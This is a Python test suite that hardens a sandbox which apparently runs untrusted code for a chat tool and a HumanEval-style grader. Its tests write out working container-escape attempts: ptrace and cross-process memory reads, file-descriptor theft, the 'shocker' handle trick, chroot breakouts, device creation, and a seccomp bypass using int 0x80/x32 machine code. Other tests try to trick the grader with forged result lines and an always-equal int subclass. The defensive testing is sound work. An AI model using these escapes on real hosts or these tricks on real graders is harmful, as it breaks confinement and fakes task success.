    secret = ("MEMSECRET-" + secrets.token_hex(10)).encode()
    buf = ctypes.create_string_buffer(secret)
    code = fill(CTYPES + textwrap.dedent('''
        TARGETS = [@PID@, @VICTIM@] + list(range(1, 40))
        ADDR, LEN = @ADDR@, @LEN@
        for pid in TARGETS:
            if pid == os.getpid():
                continue
            for req, what in ((16, "PTRACE_ATTACH"), (0x4206, "PTRACE_SEIZE")):
                r, e = sysc(101, req, pid, 0, 0)
                if r == 0:
                    report(f"{what} {pid}", True)
            local = ctypes.create_string_buffer(LEN)
            liov = (ctypes.c_void_p * 2)(ctypes.addressof(local), LEN)
            riov = (ctypes.c_void_p * 2)(ADDR, LEN)
            r, e = sysc(310, pid, liov, 1, riov, 1, 0)   # process_vm_readv
            if r > 0:
                report(f"process_vm_readv {pid}", True, local.raw[:r])
            r, e = sysc(311, pid, liov, 1, riov, 1, 0)   # process_vm_writev
            if r > 0:
                report(f"process_vm_writev {pid}", True)
        r, e = sysc(101, 0, 0, 0, 0)
        print("PTRACE_TRACEME", r, e)
    '''), PID=str(os.getpid()), VICTIM=str(proc.pid), ADDR=str(ctypes.addressof(buf)), LEN=str(len(secret)))
    with Monitor(traced=proc.pid) as m:
        r = call(code, timeout=2.0)
    require_ctypes(r)
    assert buf.raw[:len(secret)] == secret, "the test's memory was written"
    assert secret.decode() not in r.output
    assert not m.tracers, f"the test's process was traced by {m.tracers}"
    assert "ESCAPED" not in r.output, r.output
    assert_victim_untouched(victim)


@needs_x86_64
def test_steal_file_descriptors(secret_file):
    path, secret = secret_file
    fd = os.open(path, os.O_RDONLY)
    try:
        code = fill(CTYPES + textwrap.dedent('''
            import stat
            for pid in [@PID@] + list(range(1, 40)):
                if pid == os.getpid():
                    continue
                pfd, e = sysc(434, pid, 0)   # pidfd_open
                if pfd < 0:
                    continue
                for target in [@FD@] + list(range(0, 64)):
                    got, e = sysc(438, pfd, target, 0)   # pidfd_getfd
                    if got < 0:
                        continue
                    report(f"pidfd_getfd {pid}:{target}", True)
                    try:
                        if stat.S_ISDIR(os.fstat(got).st_mode):
                            print(os.listdir(got))
                        else:
                            os.lseek(got, 0, 0)
                            print(os.read(got, 200))
                    except OSError as err:
                        print(err)
        '''), PID=str(os.getpid()), FD=str(fd))
        r = call(code, timeout=2.0)
        require_ctypes(r)
        assert secret not in r.output
        assert "ESCAPED" not in r.output, r.output
    finally:
        os.close(fd)


def _file_handle(path):
    """name_to_handle_at on the host: (handle_type, handle bytes), or None."""
    libc = ctypes.CDLL(None, use_errno=True)

    class FileHandle(ctypes.Structure):
        _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]

    fh = FileHandle(128, 0)
    mount_id = ctypes.c_int()
    if libc.name_to_handle_at(-100, str(path).encode(), ctypes.byref(fh), ctypes.byref(mount_id), 0) != 0:
        return None
    return fh.handle_type, bytes(fh.f_handle[:fh.handle_bytes])


@needs_x86_64
def test_open_by_handle_shocker(tmp_path):
    """The 'shocker' escape: open a host file by its handle through a directory of the same file system
    that the sandbox shows (the stdlib bind)."""
    import sysconfig
    stdlib = sysconfig.get_paths()["stdlib"]
    dev = os.stat(stdlib).st_dev
    home = next((Path(d) for d in (tmp_path, "/var/tmp", "/root", "/tmp") if os.path.isdir(d) and os.stat(d).st_dev == dev), None)
    if home is None:
        pytest.skip("no writable directory on the stdlib's file system")
    secret = "HANDLESECRET-" + secrets.token_hex(10)
    target = Path(home) / f"fastchat-handle-{secrets.token_hex(4)}"
    target.write_text(secret)
    os.chmod(target, 0o600)
    try:
        handle = _file_handle(target)
        if handle is None:
            pytest.skip("name_to_handle_at is not supported here")
        htype, hbytes = handle
        code = fill(CTYPES + textwrap.dedent('''
            HTYPE, HBYTES, DIRS = @HTYPE@, @HBYTES@, @DIRS@
            fh = struct.pack("<Ii", len(HBYTES), HTYPE) + HBYTES
            for d in DIRS:
                try:
                    mfd = os.open(d, os.O_RDONLY)
                except OSError as e:
                    print(d, e)
                    continue
                r, e = sysc(304, mfd, fh, 0)   # open_by_handle_at(O_RDONLY)
                if r >= 0:
                    report(f"open_by_handle_at via {d}", True, os.read(r, 200))
                else:
                    print("open_by_handle_at", d, e)
        '''), HTYPE=str(htype), HBYTES=f"bytes.fromhex({hbytes.hex()!r})", DIRS=repr([stdlib, "/usr/lib", "/lib", "/", "/tmp"]))
        r = call(code, timeout=2.0)
        require_ctypes(r)
        assert secret not in r.output
        assert "ESCAPED" not in r.output, r.output
    finally:
        target.unlink()


@needs_x86_64
def test_chroot_and_pivot_root_breakout():
    host = [line for line in (_read("/etc/passwd") or b"").decode().splitlines() if line.count(":") >= 2]
    code = '''
        import os, posix
        try:
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
        except Exception:
            libc = None
        os.makedirs("/tmp/jail/old", exist_ok=True)
        for name, chroot in (("os", os.chroot), ("posix", posix.chroot), ("libc", lambda p: libc.chroot(p.encode()) == 0 or 1 / 0)):
            try:
                chroot("/tmp/jail")
                for _ in range(64):
                    os.chdir("..")
                chroot(".")
                print("ESCAPED chroot", name, open("/etc/passwd").read())
            except Exception as e:
                print(name, type(e).__name__)
        if libc:
            r = libc.syscall(155, b"/tmp/jail", b"/tmp/jail/old")
            print("ESCAPED pivot_root" if r == 0 else f"pivot_root {ctypes.get_errno()}")
        try:
            fd = os.open("/", os.O_RDONLY)
            os.chdir("/tmp/jail")
            os.fchdir(fd)
            for _ in range(64):
                os.chdir("..")
            print(open("etc/passwd").read())
        except Exception as e:
            print("fchdir", type(e).__name__)
    '''
    r = call(fill(code), timeout=2.0)
    leaked = [line for line in host if line in r.output]
    assert not leaked
    assert "ESCAPED" not in r.output, r.output


@needs_x86_64
def test_mknod_devices():
    dev = os.stat("/").st_dev
    code = fill(CTYPES + textwrap.dedent('''
        import stat
        for name, mode, major, minor in (("null", stat.S_IFCHR, 1, 3), ("mem", stat.S_IFCHR, 1, 1),
                                         ("kmsg", stat.S_IFCHR, 1, 11), ("root", stat.S_IFBLK, @MAJOR@, @MINOR@)):
            path = f"/tmp/{name}"
            try:
                os.mknod(path, mode | 0o666, os.makedev(major, minor))
            except OSError as e:
                r, err = sysc(133, path.encode(), mode | 0o666, os.makedev(major, minor))
                if r != 0:
                    print("mknod", name, e, err)
                    continue
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                report(f"mknod and open {name}", True, os.read(fd, 64))
            except OSError as e:
                print("made", name, "but", e)
    '''), MAJOR=str(os.major(dev)), MINOR=str(os.minor(dev)))
    r = call(code, timeout=2.0)
    require_ctypes(r)
    assert "ESCAPED" not in r.output, r.output


# Syscalls the design refuses; each program prints ESCAPED if its call succeeded.
DANGEROUS_SYSCALLS = {
    "io_uring_setup": '''
        params = ctypes.create_string_buffer(120)
        r, e = sysc(425, 8, params)
        report("io_uring_setup", r >= 0, e)
    ''',
    "bpf": '''
        attr = ctypes.create_string_buffer(struct.pack("<IIII", 2, 4, 4, 1) + bytes(112))   # BPF_MAP_CREATE array
        r, e = sysc(321, 0, attr, 128)
        report("bpf map", r >= 0, e)
    ''',
    "keyctl": '''
        r, e = sysc(248, b"user", ("fc:" + TOKEN).encode(), b"payload", 7, -4)   # add_key to the user keyring
        report("add_key", r >= 0, e)
        r, e = sysc(250, 0, -4, 0)   # KEYCTL_GET_KEYRING_ID of the user keyring
        report("keyctl", r >= 0, e)
        r, e = sysc(250, 1, 0)   # KEYCTL_JOIN_SESSION_KEYRING
        report("keyctl join", r >= 0, e)
    ''',
    "userfaultfd": '''
        r, e = sysc(323, 0o2004000)
        report("userfaultfd", r >= 0, e)
    ''',
    "perf_event_open": '''
        attr = ctypes.create_string_buffer(struct.pack("<IIQ", 1, 128, 0) + bytes(112))   # software cpu-clock
        r, e = sysc(298, attr, 0, -1, -1, 0)
        report("perf_event_open", r >= 0, e)
    ''',
    "setns": '''
        for fd in range(64):
            r, e = sysc(308, fd, 0)
            if r == 0:
                report(f"setns {fd}", True)
        for pid in range(1, 10):
            pfd, e = sysc(434, pid, 0)
            if pfd >= 0:
                r, e = sysc(308, pfd, 0x40000000)
                report(f"setns pidfd {pid}", r == 0, e)
    ''',
    "kernel_modules_and_reboot": '''
        for nr, args, what in ((175, (0, 0, b""), "init_module"), (313, (0, b"", 0), "finit_module"),
                               (246, (0, 0, 0, 0), "kexec_load"), (169, (0xfee1dead, 672274793, 0x4321fedc, 0), "reboot"),
                               (167, (b"/tmp/x", 0), "swapon"), (163, (b"/tmp/acct",), "acct"),
                               (103, (3, 0, 0), "syslog"), (172, (3,), "iopl")):
            r, e = sysc(nr, *args)
            report(what, r >= 0 if nr != 169 else r == 0, e)
    ''',
    "personality_page_zero": '''
        # personality itself is harmless once execve is refused; what it was abused for: a mapping at address 0
        old = libc.personality(0xffffffff)
        r = libc.personality(0x0100000 | 0x0400000 | 0x0040000)   # MMAP_PAGE_ZERO | READ_IMPLIES_EXEC | ADDR_NO_RANDOMIZE
        print("personality", old, r, libc.personality(0xffffffff))
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        addr = libc.mmap(0, 4096, 7, 0x32, -1, 0)   # MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED at 0
        report("mmap page zero", addr == 0, ctypes.get_errno())
    ''',
    "memfd_and_exec_via_fd": '''
        r, e = sysc(319, b"x", 0)
        report("memfd_create", r >= 0, e)
    ''',
}


@needs_x86_64
@pytest.mark.parametrize("name", sorted(DANGEROUS_SYSCALLS))
def test_dangerous_syscalls_refused(name):
    token = new_token()
    code = CTYPES + f"TOKEN = {hide(token)}\n" + textwrap.dedent(DANGEROUS_SYSCALLS[name])
    r = call(code, timeout=2.0)
    require_ctypes(r)
    assert "ESCAPED" not in r.output, r.output
    assert token.encode() not in (_read("/proc/keys") or b""), "a key of the code's is on the host"


@needs_x86_64
def test_seccomp_bypass_via_int80_and_x32():
    """The 32-bit syscall entry (int 0x80) and the x32 ABI number the same calls differently: a filter that
    does not check the architecture lets them through. Tried, each in a child of its own (a filter may kill
    the caller): socket + connect to the test's listener, execve of the interpreter with a token in its argv."""
    token = new_token()
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    port = srv.getsockname()[1]
    code = fill(CTYPES + textwrap.dedent(r"""
        import mmap
        TOKEN = @TOKEN@
        # int 0x80 with eax=nr, ebx, ecx, edx from (rdi, rsi, rdx, rcx); returns eax sign-extended
        stub = bytes.fromhex("5389f889f34189c889d14489c2cd8048 63c05bc3")
        text = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)   # MAP_32BIT
        text.write(stub)
        int80 = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long)(
            ctypes.addressof(ctypes.c_char.from_buffer(text)))
        data = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=3)
        base = ctypes.addressof(ctypes.c_char.from_buffer(data))
        sa = struct.pack("<H", 2) + struct.pack(">H", @PORT@) + bytes([127, 0, 0, 1]) + bytes(8)
        data[0:16] = sa
        exe = sys.executable.encode() + b"\0"
        off, ptrs = 256, []
        for s in (exe, b"-c\0", b"import time; time.sleep(3)\0", TOKEN.encode() + b"\0"):
            data[off:off + len(s)] = s
            ptrs.append(base + off)
            off += len(s)
        data[1024:1024 + 20] = struct.pack("<5I", *ptrs, 0)

        def int80_socket():
            fd = int80(359, 2, 1, 0)   # i386 socket
            report("int80 socket+connect", fd >= 0 and int80(362, fd, base, 16) == 0, fd)
        def int80_socketcall():
            data[64:76] = struct.pack("<III", 2, 1, 0)
            fd = int80(102, 1, base + 64, 0)   # i386 socketcall(SYS_SOCKET)
            if fd >= 0:
                data[80:92] = struct.pack("<III", fd, base, 16)
            report("int80 socketcall", fd >= 0 and int80(102, 3, base + 80, 0) == 0, fd)
        def int80_getpid():
            report("int80 getpid (architecture not checked)", int80(20, 0, 0, 0) > 0)
        def int80_execve():
            print("int80 execve", int80(11, ptrs[0], base + 1024, 0), flush=True)
        def x32_socket():
            fd, e = sysc(0x40000000 | 41, 2, 1, 0)
            report("x32 socket+connect", fd >= 0 and sysc(0x40000000 | 42, fd, sa, 16)[0] == 0, e)
        def x32_execve():
            arr = (ctypes.c_char_p * 5)(sys.executable.encode(), b"-c", b"import time; time.sleep(3)", TOKEN.encode(), None)
            print("x32 execve", sysc(0x40000000 | 520, sys.executable.encode(), arr, 0), flush=True)
        for attempt in (int80_getpid, int80_socket, int80_socketcall, int80_execve, x32_socket, x32_execve):
            pid = os.fork()
            if pid == 0:
                attempt()
                os._exit(0)
            _, status = os.waitpid(pid, 0)
            print(attempt.__name__, "status", status, flush=True)
    """), TOKEN=hide(token), PORT=str(port))
    with srv, no_survivors(token), Monitor(token=token) as m:
        r = call(code, timeout=2.0)
        require_ctypes(r)
        got = drain_stream(srv)
    assert "x32_execve status" in r.output, r.output   # every attempt was made
    assert not got, f"the listener got connections: {got}"
    assert not m.seen, f"a program was executed: {m.seen}"
    assert "ESCAPED" not in r.output, r.output


def test_proc_and_host_process_table(victim):
    """No /proc: the host's processes (a victim whose argv carries a token) and mounts stay unseen."""
    _, _, token = victim
    code = '''
        import os
        for p in ("/proc/self/mountinfo", "/proc/mounts", "/proc/1/cmdline", "/proc/self/status", "/sys/kernel/notes"):
            try:
                print(p, open(p, "rb").read()[:3000])
            except Exception as e:
                print(type(e).__name__, p)
        try:
            for d in os.listdir("/proc"):
                if d.isdigit():
                    try:
                        print(d, open(f"/proc/{d}/cmdline", "rb").read())
                    except Exception:
                        pass
        except Exception as e:
            print(type(e).__name__)
    '''
    r = call(fill(code), timeout=2.0)
    assert token not in r.output, "the host's processes are visible"
    assert "/work" not in r.output and "pytest" not in r.output


def test_confinement_state():
    """What the code finds itself to be: not root, no capabilities, no_new_privs, a seccomp filter, finite
    limits, an empty environment, only a few fds."""
    code = CTYPES + textwrap.dedent('''
        import resource
        print("uid", os.getuid(), os.geteuid(), os.getgid())
        print("nnp", libc.prctl(39, 0, 0, 0, 0))
        print("seccomp", libc.prctl(21, 0, 0, 0, 0))
        hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)
        caps = (ctypes.c_uint32 * 6)()
        print("capget", libc.syscall(125, hdr, caps), "eff", caps[0], caps[3], "prm", caps[1], caps[4])
        print("bounding", sum(libc.prctl(23, c, 0, 0, 0) == 1 for c in range(41)))
        lim = {n: resource.getrlimit(getattr(resource, n))[1] for n in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_NPROC")}
        print("limits", lim)
        print("env", dict(os.environ))
        fds = []
        for fd in range(1024):
            try:
                os.fstat(fd)
                fds.append(fd)
            except OSError:
                pass
        print("fds", fds)
    ''')
    r = call(fill(code), timeout=2.0)
    require_ctypes(r)
    out = dict(line.split(" ", 1) for line in r.output.splitlines() if " " in line)
    if os.geteuid() == 0:   # a caller that is not root gets its own uid as root of a user namespace, without capabilities
        assert int(out["uid"].split()[0]) != 0 and int(out["uid"].split()[1]) != 0, out["uid"]
    assert out["nnp"] == "1"
    assert out["seccomp"] == "2"
    assert out["capget"].split()[2:4] == ["0", "0"] and out["capget"].split()[5:7] == ["0", "0"], out["capget"]
    assert all(v != resource_infinity() for v in ast.literal_eval(out["limits"]).values()), out["limits"]
    env = ast.literal_eval(out["env"])   # Python's own C-locale coercion (PEP 538) may set LC_CTYPE
    assert set(env) <= {"LC_CTYPE"} and env.get("LC_CTYPE", "C.UTF-8") in ("C.UTF-8", "C.utf8", "UTF-8"), env
    assert len(ast.literal_eval(out["fds"])) <= 5, out["fds"]


def resource_infinity():
    import resource
    return resource.RLIM_INFINITY


# ================================ normal behaviour ========================================================

def test_normal_arithmetic_print_and_repl_value():
    assert call("print('hello')\nx = 6 * 7\nx", timeout=3) == (True, "hello\n42")
    assert call("'abc'", timeout=3).output == "'abc'"
    assert call("x = 5", timeout=3) == (True, "")
    assert call("2 ** 100", timeout=3).output == str(2 ** 100)


def test_normal_stdlib_imports():
    code = '''
        import math, json, re, itertools, collections, fractions, decimal, datetime, random, hashlib, statistics, functools
        random.seed(0)
        print(math.factorial(10), json.dumps({"a": [1, 2]}), re.findall(r"\\d+", "a1b22"),
              list(itertools.accumulate([1, 2, 3])), collections.Counter("aab")["a"], fractions.Fraction(3, 6),
              decimal.Decimal("0.1") + decimal.Decimal("0.2"), datetime.date(2024, 2, 29).isoformat(),
              hashlib.sha256(b"x").hexdigest()[:8], statistics.mean([1, 2, 3]), functools.reduce(int.__add__, [1, 2]))
    '''
    r = call(fill(code), timeout=5)
    assert r.ok, r.output
    assert r.output == ("3628800 {\"a\": [1, 2]} ['1', '22'] [1, 3, 6] 2 1/2 0.3 2024-02-29 2d711642 2 3")


def test_normal_file_in_working_directory():
    r = call("open('f.txt', 'w').write('abc')\nimport os\nprint(os.listdir('.'))\nopen('f.txt').read()", timeout=3)
    assert r == (True, "['f.txt']\n'abc'")


def test_normal_exception_reported():
    r = call("print('before')\nraise ValueError('boom-xyz')", timeout=3)
    assert not r.ok and r.output.startswith("before") and "ValueError: boom-xyz" in r.output
    r = call("def f(:\n    pass", timeout=3, allow_syntax_error=True)
    assert not r.ok and "SyntaxError" in r.output


def test_normal_timeout():
    t0 = time.monotonic()
    r = call("import time\ntime.sleep(10)", timeout=1.0)
    assert not r.ok and "Timeout" in r.output
    assert time.monotonic() - t0 >= 0.9


def test_normal_memory_below_limit_and_threads():
    assert call("len(bytearray(50 * 10**6))", timeout=3, memory_mb=256).output == str(50 * 10**6)
    code = "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(4) as ex:\n" \
           "    print(sum(ex.map(lambda x: x * x, range(100))))"
    assert call(code, timeout=3) == (True, "328350")


def test_normal_check_program_with_tests():
    assert judge(SOLUTION, timeout=3) == (True, "")
    passed, message = judge(WRONG, timeout=3)
    assert not passed and "AssertionError" in message
    passed, message = judge("def add_digits(n):\n    raise ValueError('nope')\n", timeout=3)
    assert not passed and "nope" in message


HUMANEVAL_TESTS = '''
METADATA = {}

def check(candidate):
    assert candidate([1.0, 2.0, 3.9, 4.0, 5.0, 2.2], 0.3) == True
    assert candidate([1.0, 2.0, 3.9, 4.0, 5.0, 2.2], 0.05) == False
    assert candidate([1.0, 2.0, 5.9, 4.0, 5.0], 0.95) == True
    assert candidate([1.1, 2.2, 3.1, 4.1, 5.1], 1.0) == True
    assert candidate([1.1, 2.2, 3.1, 4.1, 5.1], 0.5) == False
'''
HUMANEVAL_SOLUTION = '''
from typing import List

def has_close_elements(numbers: List[float], threshold: float) -> bool:
    return any(abs(a - b) < threshold for i, a in enumerate(numbers) for b in numbers[i + 1:])
'''


def test_normal_humaneval_style():
    entry = "has_close_elements"
    assert judge(HUMANEVAL_SOLUTION, timeout=3, tests=HUMANEVAL_TESTS, entry_point=entry) == (True, "")
    wrong = HUMANEVAL_SOLUTION.replace("< threshold", "> threshold")
    passed, _ = judge(wrong, timeout=3, tests=HUMANEVAL_TESTS, entry_point=entry)
    assert not passed
    assert check_program(HUMANEVAL_SOLUTION + HUMANEVAL_TESTS + "\ncheck(has_close_elements)\n", timeout=3) == (True, "")
    passed, _ = check_program(wrong + HUMANEVAL_TESTS + "\ncheck(has_close_elements)\n", timeout=3)
    assert not passed


# ================================ second review: what the first suite missed ===============================

PRINTING_TESTS = '''
def check(candidate):
    print("debug:", candidate("a"))
    assert candidate("b") == 1
'''


def test_tests_that_print_what_the_solution_returns_cannot_forge_the_result_line():
    """The tests' prints once shared the supervisor's stdout with the result line: a solution returning a
    result-shaped string glued a forged `ok: True` onto it."""
    forger = r"""
def f(x):
    if x == "a":
        return "x" * 9000 + "\n{'output': '''"
    raise ValueError("''', 'ok': True} #")
"""
    assert judge(forger, tests=PRINTING_TESTS, entry_point="f")[0] is False
    honest = "def f(x):\n    return 1\n"
    assert judge(honest, tests=PRINTING_TESTS.replace('print("debug:", candidate("a"))',
                                                      'print("progress", end="", flush=True)'),
                 entry_point="f") == (True, "")


def test_solution_that_never_reads_its_arguments_cannot_hold_the_judge():
    tests = "def check(candidate):\n    assert candidate('x' * 200000) == 1\n"
    t0 = time.monotonic()
    passed, _ = check_program("import time\ndef f(x):\n    return 1\ntime.sleep(30)\n", timeout=1.0,
                              tests=tests, entry_point="f")
    assert not passed and time.monotonic() - t0 < 1.0 + 0.6


def test_big_output_and_big_arguments_do_not_deadlock_a_correct_solution():
    tests = "def check(candidate):\n    assert candidate('x' * 200000) == 200000\n"
    solution = "print('y' * 300000)\ndef f(x):\n    return len(x)\n"
    assert judge(solution, tests=tests, entry_point="f", timeout=3.0) == (True, "")


def test_judge_kept_busy_decoding_is_stopped_at_the_deadline():
    """Ints that are multiples of 2**61 - 1 share one hash: a set of them costs the judge quadratic time."""
    solution = "def f(x):\n    return {(2**61 - 1) * i for i in range(1, 40000)}\n"
    tests = "def check(candidate):\n    assert candidate(1) == set()\n"
    t0 = time.monotonic()
    passed, _ = check_program(solution, timeout=1.5, tests=tests, entry_point="f")
    assert not passed and time.monotonic() - t0 < 1.5 + 0.6


def test_killing_the_launcher_ends_the_sandbox(monkeypatch):
    """The supervisor changes uid after forking the worker, which clears its parent-death signal: it must be
    armed again, or a launcher killed from outside leaves the supervisor and the code running."""
    started = []
    real_popen = tools.subprocess.Popen

    def recording(*args, **kwargs):
        proc = real_popen(*args, **kwargs)
        started.append(proc)
        return proc

    monkeypatch.setattr(tools.subprocess, "Popen", recording)
    thread = threading.Thread(target=lambda: run_python("import time\ntime.sleep(20)", timeout=8.0))
    thread.start()
    deadline = time.monotonic() + 5
    while not started and time.monotonic() < deadline:
        time.sleep(0.01)
    time.sleep(0.5)   # the namespace is up and the code sleeping
    launcher = started[0].pid
    uids = {0x40000000 + 2 * launcher, 0x40000001 + 2 * launcher}
    assert any(uid_of(p) in uids for p in processes()), "the sandbox's processes were not found"
    os.kill(launcher, signal.SIGKILL)
    deadline = time.monotonic() + 2
    while any(uid_of(p) in uids for p in processes()) and time.monotonic() < deadline:
        time.sleep(0.05)
    left = [proc for pid, proc in processes().items() if uid_of(pid) in uids]
    thread.join()
    assert not left, f"still running after the launcher was killed: {left}"


def test_socket_buffers_cannot_pin_host_memory():
    """Socket buffers are kernel memory that RLIMIT_AS does not count; enlarging them is refused, so a call's
    sockets hold at most the default buffers."""
    code = CTYPES + textwrap.dedent('''
        import socket, time
        for _ in range(6):
            try:
                if os.fork() == 0:
                    break
            except OSError:
                break
        pairs, refused = [], 0
        try:
            while True:
                a, b = socket.socketpair()
                for s in (a, b):
                    try:
                        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)
                    except OSError:
                        refused += 1
                a.setblocking(False)
                try:
                    while True:
                        a.send(b"x" * 65536)
                except OSError:
                    pass
                pairs.append((a, b))
        except OSError:
            pass
        print("pairs", len(pairs), "refused", refused, flush=True)
        time.sleep(30)
    ''')
    with Monitor(memory=True, period=0.02) as m:
        call(code, timeout=2.0, memory_mb=64)
    assert m.mem_drop < 600 * MB, f"host MemAvailable dropped by {m.mem_drop / MB:.0f} MB"


def test_syscalls_newer_than_the_reviewed_list_are_refused():
    code = CTYPES + "print([sysc(nr)[1] for nr in (457, 458, 462, 470)])"   # statmount, listmount, mseal...
    r = call(code)
    assert r.output.splitlines()[-1] == str([38] * 4), r.output   # ENOSYS, as from an older kernel


def test_code_printing_the_unavailable_message_is_still_a_result():
    text = "the python tool is unavailable: its sandbox needs x86_64 Linux"
    r = call(f"print({text!r})\nraise SystemExit(1)")
    assert not r.ok and text in r.output   # returned as output: the genuine case raises SandboxUnavailable


def test_worker_cannot_lower_the_supervisors_limits():
    solution = CTYPES + textwrap.dedent('''
        class RL(ctypes.Structure):
            _fields_ = [("cur", ctypes.c_ulong), ("max", ctypes.c_ulong)]
        lim = RL(5, 5)
        print(sysc(302, 1, 7, ctypes.byref(lim), 0))   # prlimit64(pid 1, RLIMIT_NOFILE)
    ''') + SOLUTION
    assert judge(solution) == (True, "")


def test_results_of_subclasses_and_huge_ints_are_checked_by_value():
    tests = ("def check(candidate):\n    assert candidate(1) == {'a': 2}\n"
             "    assert candidate(2) == 7 ** 6000\n    assert candidate(3) == (1, 2)\n")
    solution = textwrap.dedent('''
        import collections
        P = collections.namedtuple("P", "x y")
        def f(n):
            return {1: collections.Counter(a=2), 2: 7 ** 6000, 3: P(1, 2)}[n]
    ''')
    assert judge(solution, tests=tests, entry_point="f") == (True, "")
    lying = "def f(n):\n    class I(int):\n        def __eq__(s, o): return True\n    return I(5)\n"
    assert judge(lying, tests=tests, entry_point="f")[0] is False


def test_stopiteration_from_the_solution_cannot_end_a_test_loop_early():
    tests = "def check(candidate):\n    assert all(map(lambda x: candidate(x) == x, [1, 2, 3]))\n"
    assert judge("def f(x):\n    raise StopIteration\n", tests=tests, entry_point="f")[0] is False


def test_judge_message_is_capped_and_clean():
    tests = "def check(candidate):\n    r = candidate(1)\n    assert r == 2, r\n"
    passed, message = judge("def f(x):\n    return '\\ud800' + 'x' * 1000000\n", tests=tests, entry_point="f")
    assert not passed and len(message) <= MAX_OUTPUT
    message.encode()   # no lone surrogate left to break the caller


def test_stdlib_under_tmp_behind_a_symlink(tmp_path):
    """An interpreter found through a symlink (Homebrew opt/, uv's version links), here also under /tmp,
    which the new root's tmpfs covers: its stdlib must still be bound where it expects it."""
    prefix = tmp_path / "python prefix"   # a space too
    prefix.symlink_to(sys.base_prefix)
    exe = prefix / "bin" / Path(os.path.realpath(sys.executable)).name
    request = dict(program="import json, decimal\nprint(json.dumps([1]), decimal.Decimal('0.1') * 3)",
                   entry_point=None, memory_mb=256, cpu_seconds=4, max_output=4000, has_tests=False,
                   deadline=time.monotonic() + 10)
    header = marshal.dumps(request)
    out = subprocess.run([str(exe), "-I", "-S", tools._SANDBOX], input=len(header).to_bytes(8, "little") + header,
                         capture_output=True, env={}, cwd="/", timeout=20)
    result = ast.literal_eval(out.stdout.decode().splitlines()[-1])
    assert result["ok"] and result["output"] == "[1] 0.3", (result, out.stderr[-500:])
